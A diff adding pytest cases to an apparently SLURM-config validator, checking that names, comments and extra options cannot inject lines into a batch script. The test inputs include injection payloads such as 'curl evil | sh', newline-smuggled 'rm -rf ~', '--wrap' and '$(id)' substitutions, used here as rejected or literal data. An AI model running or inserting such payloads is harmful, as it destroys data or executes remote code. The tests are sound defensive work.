@@ -46,3 +46,42 @@ def test_a_stage_changes_what_is_its_own_and_nothing_else():
 def test_only_our_keys_are_added_to_vissls_block():
     overrides = ["config.SLURM.CLUSTER=local", "config.SLURM.NAME=x", "config.CLUSTERFIT.SLURM.CLUSTER.NUM_NODES=2"]
     assert with_our_keys(overrides) == [f"++{overrides[0]}", *overrides[1:]]
+
+
+@pytest.mark.parametrize("text", ["a\ncurl evil | sh", "a\rb", "a\x0bb", "a\x00", "a\u2028b", "a\x85b", "\x1b[2J"])
+@pytest.mark.parametrize("name", ["NAME", "COMMENT", "PARTITION", "CONSTRAINT", "LOG_FOLDER"])
+def test_a_text_stays_in_its_line_of_the_script(name, text):
+    with pytest.raises(
+        ConfigError, match=rf"config\.SLURM: {name}: found .*; allowed: one line of printable characters"
+    ):
+        read_settings(SlurmSettings, {name: text}, "config.SLURM")
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        {"qos": "low\nrm -rf ~"},
+        {"qos\nrm -rf ~\n#": True},
+        {"qos low": "x"},
+        {"": "x"},
+        {"qos=x --wrap": "x"},
+        {"-x": "y"},
+        {"qos": ["a"]},
+        {"qos": None},
+        {5: "x"},
+    ],
+)
+def test_so_do_further_options(options):
+    block = {"ADDITIONAL_PARAMETERS": options}
+    with pytest.raises(ConfigError, match=r"config\.SLURM: ADDITIONAL_PARAMETERS: found "):
+        read_settings(SlurmSettings, block, "config.SLURM")
+    with pytest.raises(ConfigError, match=r"config\.EXTRACT: ADDITIONAL_PARAMETERS: found "):
+        read_settings(ChainSettings, {"EXTRACT": block}, "config")
+
+
+def test_quotes_and_dollars_are_taken_as_they_are():
+    texts = {
+        "NAME": "it's $(id) `id` ; & ü",
+        "ADDITIONAL_PARAMETERS": {"mail-user": "a@b.c", "exclusive": True, "nice": 5},
+    }
+    assert read_settings(SlurmSettings, texts, "config.SLURM").name == texts["NAME"]
